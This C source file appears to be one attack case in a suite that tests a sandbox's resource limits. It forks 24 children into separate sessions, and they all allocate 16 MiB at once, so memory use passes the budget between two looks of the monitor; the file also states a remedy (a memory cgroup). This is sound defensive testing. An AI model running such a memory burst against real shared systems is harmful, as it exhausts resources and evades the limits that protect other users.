// SPDX-License-Identifier: MIT
/*
 * bursting-sessions.c - who watches gets one share of the processor among many.
 *
 * Goal:  more memory than the budget.
 * Means: the kernel shares the processors out by session (autogroup, sched(7)), and whoever watches has
 *        one. 24 children have a session each, wait, and touch 16 MiB each at the same moment: between
 *        two looks of the watch lie as many turns of others. Where no more sessions are to be had, they do
 *        it in those that there are.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <unistd.h>

enum { CHILDREN = 24, MIB = 16 };

static _Noreturn void grow(int gate, int grown)
{
	char byte;

	setsid();
	while (read(gate, &byte, 1) < 0)
		continue;
	take_heap((size_t)MIB << 20);
	close(grown);
	sleep(9);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int gate[2], grown[2];

	if (pipe(gate) || pipe(grown))
		return failed("pipe");
	attempting(b);
	for (int i = 0; i < CHILDREN; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child == 0) {
			close(gate[1]);
			grow(gate[0], grown[1]);
		}
	}
	usleep(100000);
	close(gate[1]);
	await_growth(grown);
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "24 children, in as many sessions as they get, touch 16 MiB each at the same moment",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "bound the sessions of a run; a memory cgroup",
	.refs = (const char *const[]){ "sched(7), The autogroup feature", NULL },
	.run = run,
};
